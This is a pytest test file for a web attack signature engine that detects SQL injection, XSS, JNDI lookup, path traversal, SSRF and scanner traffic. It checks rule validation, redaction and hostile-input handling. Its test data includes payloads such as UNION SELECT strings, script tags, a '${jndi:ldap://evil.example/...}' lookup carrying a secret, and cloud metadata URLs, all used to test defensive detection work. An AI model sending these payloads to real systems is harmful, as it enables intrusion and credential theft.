"""Attack signatures: rules as data, detection per category, quality goals, engine equality, safety."""

from __future__ import annotations

import time
from collections import Counter
from pathlib import Path

import pytest

from sensor.signatures import (
    CATEGORIES,
    EXCERPT_MAX,
    ScanItem,
    SignatureEngine,
    SignaturePolicyError,
    build_items,
    hyperscan_available,
    load_rules,
    redact_excerpt,
)
from tests.sensor.attack_corpus import (
    CODE_SNIPPETS,
    KEY_PAYLOADS,
    NATURAL_TEXT,
    NON_ENGLISH,
    PAYLOADS,
    attack_corpus,
    benign_corpus,
    natural_language,
)

needs_hyperscan = pytest.mark.skipif(not hyperscan_available(), reason="hyperscan not importable")


@pytest.fixture(scope="module")
def rules_and_scoring():  # type: ignore[no-untyped-def]
    return load_rules()


@pytest.fixture(scope="module")
def pl2(rules_and_scoring) -> SignatureEngine:  # type: ignore[no-untyped-def]
    return SignatureEngine(*rules_and_scoring, paranoia=2)


@pytest.fixture(scope="module")
def pl1(rules_and_scoring) -> SignatureEngine:  # type: ignore[no-untyped-def]
    return SignatureEngine(*rules_and_scoring, paranoia=1)


@pytest.fixture(scope="module")
def pl2_re(rules_and_scoring) -> SignatureEngine:  # type: ignore[no-untyped-def]
    return SignatureEngine(*rules_and_scoring, paranoia=2, engine="re")


# --------------------------------------------------------------------------------------------------
# rules as data


def test_bundled_rules_cover_every_category(rules_and_scoring) -> None:  # type: ignore[no-untyped-def]
    rules, scoring = rules_and_scoring
    ids = [r.id for r in rules]
    assert len(ids) == len(set(ids))
    per_category = Counter(r.category for r in rules)
    assert set(per_category) == set(CATEGORIES)
    for r in rules:
        assert r.owasp.endswith(":2023") and r.mitre.startswith("T")
        assert r.score == scoring.severity_scores[r.severity]
    assert scoring.thresholds[2] == 5


@pytest.mark.parametrize("paranoia", [1, 2, 3, 4])
def test_engines_build_at_every_paranoia_level(rules_and_scoring, paranoia: int) -> None:  # type: ignore[no-untyped-def]
    eng = SignatureEngine(*rules_and_scoring, paranoia=paranoia, engine="re")
    assert eng.rules and all(r.paranoia <= paranoia for r in eng.rules)


def _rule(**overrides: object) -> str:
    fields = {
        "id": "TEST-001",
        "category": "sqli",
        "name": "a test rule",
        "severity": "high",
        "paranoia": 1,
        "targets": "[query_value]",
        "owasp": "API8:2023",
        "mitre": "T1190",
        "pattern": "'union'",
    }
    fields.update({k: str(v) for k, v in overrides.items()})
    return "rules:\n  - " + "\n    ".join(f"{k}: {v}" for k, v in fields.items()) + "\n"


@pytest.mark.parametrize(
    ("text", "line", "fragment"),
    [
        (_rule(severity="huge"), 5, "severity"),
        (_rule(paranoia=7), 6, "paranoia"),
        (_rule(owasp="A1:2017"), 8, "owasp"),
        (_rule(targets="[query, body]"), 7, "targets"),
        (_rule(id="bad id"), 2, "id"),
        (_rule(colour="blue"), 11, "unknown field `colour`"),
        (_rule(pattern="'(unclosed'"), 10, "invalid regular expression"),
        (_rule(pattern="'a(?=b)'"), 10, "lookarounds"),
        (_rule(pattern="'a*'"), 10, "empty string"),
        (_rule(headers="[referer]"), 11, "'headers' given"),
        ("rules:\n  - id: [unclosed\n", 3, "invalid YAML"),
        (_rule() + _rule()[len("rules:\n") :], 11, "duplicate rule id"),
    ],
    ids=[
        "severity",
        "paranoia",
        "owasp",
        "target",
        "id",
        "unknown-field",
        "regex",
        "lookaround",
        "empty",
        "headers",
        "yaml",
        "duplicate",
    ],
)
def test_bad_policy_fails_with_file_line_and_problem(tmp_path: Path, text: str, line: int, fragment: str) -> None:
    (tmp_path / "signatures").mkdir()
    path = tmp_path / "signatures" / "bad.yaml"
    path.write_text(text)
    with pytest.raises(SignaturePolicyError) as err:
        SignatureEngine.from_policies(str(tmp_path), engine="re")
    msg = str(err.value)
    assert msg.startswith(f"{path}:{line}:"), msg
    assert fragment in msg, msg


def test_custom_policy_dir_and_scoring(tmp_path: Path) -> None:
    (tmp_path / "s.yaml").write_text(
        _rule(severity="low") + "scoring:\n  severity_scores: {critical: 9, high: 6, medium: 3, low: 1}\n"
        "  thresholds: {1: 2, 2: 2, 3: 1, 4: 1}\n"
    )
    eng = SignatureEngine.from_policies(str(tmp_path), paranoia=1, engine="re")
    res = eng.scan([ScanItem("query_value", "q", "x union y")])
    assert [m.rule_id for m in res.matches] == ["TEST-001"] and res.score == 1 and not res.blocked
    assert (
        SignatureEngine.from_policies(str(tmp_path), paranoia=3, engine="re")
        .scan([ScanItem("query_value", "q", "union")])
        .blocked
    )


def test_missing_policy_dir_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(SignaturePolicyError, match="no signature files"):
        load_rules(str(tmp_path))


# --------------------------------------------------------------------------------------------------
# detection, table-driven per category


_CLASSIC = [(cat, p) for cat, payloads in PAYLOADS.items() if cat != "scanner" for p in payloads]


@pytest.mark.parametrize(("category", "payload"), _CLASSIC, ids=[f"{c}-{i}" for i, (c, _) in enumerate(_CLASSIC)])
def test_classic_payload_in_query_is_blocked_at_pl2(pl2: SignatureEngine, category: str, payload: str) -> None:
    res = pl2.scan([ScanItem("query_value", "q", payload), ScanItem("path", "", "/api/v1/search")])
    assert res.blocked, (payload, res)
    assert all(len(m.excerpt) <= EXCERPT_MAX for m in res.matches)


@pytest.mark.parametrize("ua", PAYLOADS["scanner"])
def test_attack_tool_user_agents(pl1: SignatureEngine, ua: str) -> None:
    res = pl1.scan(build_items("/", headers={"User-Agent": ua}))
    assert res.blocked and {m.category for m in res.matches} == {"scanner"}


@pytest.mark.parametrize(
    "ua",
    [
        "curl/8.4.0",
        "python-requests/2.31.0",
        "Go-http-client/2.0",
        "okhttp/4.12.0",
        "PostmanRuntime/7.36.0",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    ],
)
def test_ordinary_user_agents_are_not_flagged(pl2: SignatureEngine, ua: str) -> None:
    assert not pl2.scan(build_items("/", headers={"User-Agent": ua})).matches


@pytest.mark.parametrize(("category", "qname", "jkey"), [(c, q, j) for c, ks in KEY_PAYLOADS.items() for q, j in ks])
def test_operator_and_prototype_keys(pl1: SignatureEngine, category: str, qname: str, jkey: str) -> None:
    assert category in {m.category for m in pl1.scan(build_items("/", query_pairs=[(qname, "x")])).matches}
    assert category in {m.category for m in pl1.scan(build_items("/", body_leaves=[(jkey, None)])).matches}


@pytest.mark.parametrize(
    ("value", "category"),
    [
        ("JTI3JTIwT1IlMjAxJTNEMS0t", "sqli"),  # base64 of a URL-encoded payload
        ("PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+", "xss"),
        ("Basic JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=", "jndi"),  # the token after a space
        ("data:text/plain;base64,Li4vLi4vLi4vZXRjL3Bhc3N3ZA==", "path_traversal"),
    ],
)
def test_base64_wrapped_values(pl2: SignatureEngine, value: str, category: str) -> None:
    assert category in {m.category for m in pl2.scan([ScanItem("cookie", "prefs", value)]).matches}


def test_base64_path_segment(pl2: SignatureEngine) -> None:
    res = pl2.scan([ScanItem("path", "", "/api/files/Jy8qKi9VTklPTi8qKi9TRUxFQ1QvKiovMS0t")])
    assert res.blocked and "sqli" in {m.category for m in res.matches}


@pytest.mark.parametrize(
    ("name", "value", "flagged"),
    [
        ("referer", "http://localhost:8080/tienda1/index.jsp", False),  # browsers' own origin
        ("origin", "http://127.0.0.1:3000", False),
        ("x-callback-url", "http://127.0.0.1:6379/", True),
        ("x-callback-url", "https://hooks.example.com/a", False),
        ("x-tenant-id", "http://169.254.169.254/latest/meta-data/", True),  # metadata: everywhere
    ],
)
def test_ssrf_header_scope(pl2: SignatureEngine, name: str, value: str, flagged: bool) -> None:
    assert pl2.scan(build_items("/", headers={name: value})).blocked is flagged


@pytest.mark.parametrize("text", NATURAL_TEXT + NON_ENGLISH + CODE_SNIPPETS)
def test_benign_text_is_not_blocked(pl2: SignatureEngine, text: str) -> None:
    res = pl2.scan([ScanItem("body_value", "comment", text), ScanItem("query_value", "q", text)])
    assert not res.blocked, res


def test_paranoia_raises_sensitivity() -> None:
    sql = [ScanItem("body_value", "sql", "SELECT id, name FROM customers WHERE country = 'NL'")]
    assert not SignatureEngine.from_policies(paranoia=2, engine="re").scan(sql).matches
    assert SignatureEngine.from_policies(paranoia=3, engine="re").scan(sql).matches


def test_score_counts_each_rule_once(pl2: SignatureEngine) -> None:
    payload = "1 UNION SELECT password FROM users--"
    one = pl2.scan([ScanItem("query_value", "a", payload)])
    many = pl2.scan([ScanItem("query_value", n, payload) for n in "abcdef"])
    assert one.score == many.score and len(many.matches) > len(one.matches)


def test_threshold_override(rules_and_scoring) -> None:  # type: ignore[no-untyped-def]
    eng = SignatureEngine(*rules_and_scoring, paranoia=2, engine="re", threshold=100)
    res = eng.scan([ScanItem("query_value", "q", "' OR 1=1--")])
    assert res.matches and not res.blocked


def test_scan_exchange_parts_builds_items(pl2: SignatureEngine) -> None:
    items = build_items(
        "/a",
        [("q", "x"), ("q", "y")],
        {"User-Agent": "sqlmap/1.7", "Authorization": "Basic ' OR 1=1--", "X-Id": "1"},
        {"sid": "abc"},
        [("user.name", "bob"), ("user.age", 3), ("tags.0", "a"), ("tags.0", "b")],
    )
    locations = Counter(i.location for i in items)
    assert locations == Counter(
        {
            "path": 1,
            "query_name": 1,
            "query_value": 2,
            "user_agent": 1,
            "header": 1,
            "cookie": 1,
            "body_key": 3,
            "body_value": 3,
        }
    )
    res = pl2.scan_exchange_parts("/a", headers=[("User-Agent", "sqlmap/1.7"), ("Authorization", "' OR 1=1--")])
    assert [m.rule_id for m in res.matches] == ["SCAN-001"]  # credentials are never scanned


def test_engine_arguments_are_checked(rules_and_scoring, pl2: SignatureEngine) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(ValueError, match="paranoia"):
        SignatureEngine(*rules_and_scoring, paranoia=5)
    with pytest.raises(ValueError, match="engine"):
        SignatureEngine(*rules_and_scoring, engine="pcre")
    with pytest.raises(ValueError, match="location"):
        pl2.scan([ScanItem("body", "x", "y")])
    assert pl2.scan([]) == ((), 0, False)


# --------------------------------------------------------------------------------------------------
# excerpts


SECRET = "sk_live_51HcRtZ2eZvKYlo2C8xq9PzR4"


@pytest.mark.parametrize(
    "value",
    [
        f"' OR 1=1-- {SECRET}",
        f"{SECRET}' UNION SELECT password FROM users--",  # noqa: S608 - attack text, not a query
        f"token={SECRET}&q=<script>alert(1)</script>&card=4242424242424242",
        f"${{jndi:ldap://evil.example/{SECRET}}}",
        f"http://169.254.169.254/latest/meta-data/?k={SECRET}",
    ],
)
def test_excerpts_are_short_and_redacted(pl2: SignatureEngine, pl2_re: SignatureEngine, value: str) -> None:
    for eng in (pl2, pl2_re):
        res = eng.scan([ScanItem("query_value", "q", value), ScanItem("body_value", "b", value)])
        assert res.matches
        for m in res.matches:
            assert len(m.excerpt) <= EXCERPT_MAX
            assert SECRET not in m.excerpt and SECRET[:16] not in m.excerpt
            assert "4242424242424242" not in m.excerpt
            assert m.excerpt != value


def test_redact_excerpt() -> None:
    assert redact_excerpt("a\r\nb") == "a\\r\\nb"
    assert redact_excerpt("union select") == "union select"
    assert redact_excerpt("key AKIAIOSFODNN7EXAMPLE x") == "key AKI*** x"
    assert redact_excerpt("card 4111111111111111") == "card 41****"


# --------------------------------------------------------------------------------------------------
# hostile input


@pytest.fixture(scope="module")
def pl4_engines(rules_and_scoring):  # type: ignore[no-untyped-def]
    return {name: SignatureEngine(*rules_and_scoring, paranoia=4, engine=name) for name in ("auto", "re")}


@pytest.mark.parametrize("engine_name", ["auto", "re"])
@pytest.mark.parametrize(
    "value",
    [
        "A" * 1_000_000,
        "%25" * 300_000 + "27",
        "\ud800\udc00\udfff" * 10_000,
        "' OR 1=1--\x00" * 1000,
        "<" * 500_000,
        "${" * 200_000,
        "../" * 300_000,
        "(" * 100_000 + "a" * 100_000,
    ],
    ids=["1MB", "pct-loop", "surrogates", "nul", "angles", "lookups", "dots", "parens"],
)
def test_hostile_values_never_raise(pl4_engines, engine_name: str, value: str) -> None:  # type: ignore[no-untyped-def]
    eng = pl4_engines[engine_name]
    items = [ScanItem(loc, "n", value) for loc in ("path", "query_value", "header", "body_value", "user_agent")]
    t0 = time.perf_counter()
    res = eng.scan(items)
    assert time.perf_counter() - t0 < 5.0
    assert len(res.matches) <= 32


@needs_hyperscan
def test_hyperscan_bounded_repeat_regression(pl2: SignatureEngine) -> None:
    """Hyperscan 0.9.1 dropped this match when bounded-repeat patterns shared the database."""
    items = build_items("/api/v1/search", [("q", "| id")])
    assert pl2.engine == "hyperscan" and pl2.scan(items).blocked


def test_many_items_are_capped(pl2: SignatureEngine) -> None:
    res = pl2.scan(ScanItem("body_value", f"k{i}", "' OR 1=1--") for i in range(100_000))
    assert res.blocked and len(res.matches) <= 32


# --------------------------------------------------------------------------------------------------
# quality goals and engine equality over the corpus


@pytest.fixture(scope="module")
def corpus():  # type: ignore[no-untyped-def]
    return attack_corpus(), benign_corpus(csic_step=12)


def test_quality_goals(pl1: SignatureEngine, pl2: SignatureEngine, corpus) -> None:  # type: ignore[no-untyped-def]
    attacks, benign = corpus
    per_cat: dict[str, list[int]] = {}
    for req in attacks:
        c = per_cat.setdefault(req.category, [0, 0])
        c[1] += 1
        c[0] += pl2.scan(req.items()).blocked
    total = sum(c[1] for c in per_cat.values())
    assert len(per_cat) == len(CATEGORIES)
    assert sum(c[0] for c in per_cat.values()) / total >= 0.99
    for cat, (flagged, n) in per_cat.items():
        assert flagged / n >= 0.95, cat
    fp = sum(pl2.scan(req.items()).blocked for req in benign)
    assert len(benign) > 3000 and fp / len(benign) <= 0.005
    sentences = natural_language()
    nl_fp = sum(pl1.scan([ScanItem("body_value", "t", s), ScanItem("query_value", "q", s)]).blocked for s in sentences)
    assert len(sentences) >= 1000 and nl_fp / len(sentences) <= 0.001


@needs_hyperscan
def test_hyperscan_and_re_give_identical_results(pl2: SignatureEngine, pl2_re: SignatureEngine, corpus) -> None:  # type: ignore[no-untyped-def]
    assert pl2.engine == "hyperscan" and pl2_re.engine == "re"
    attacks, benign = corpus
    for req in attacks + benign:
        items = req.items()
        a, b = pl2.scan(items), pl2_re.scan(items)
        assert (a.blocked, a.score) == (b.blocked, b.score), req
        assert sorted(a.matches) == sorted(b.matches), req
